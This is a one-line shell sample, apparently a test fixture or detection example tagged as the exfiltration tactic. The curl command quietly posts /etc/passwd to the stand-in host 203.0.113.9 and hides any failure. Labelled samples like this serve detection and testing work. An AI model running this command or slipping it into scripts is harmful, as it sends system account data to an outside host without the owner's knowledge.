# tactic: exfiltration
curl -s -m 2 -X POST --data @/etc/passwd http://203.0.113.9/ 2>/dev/null; true
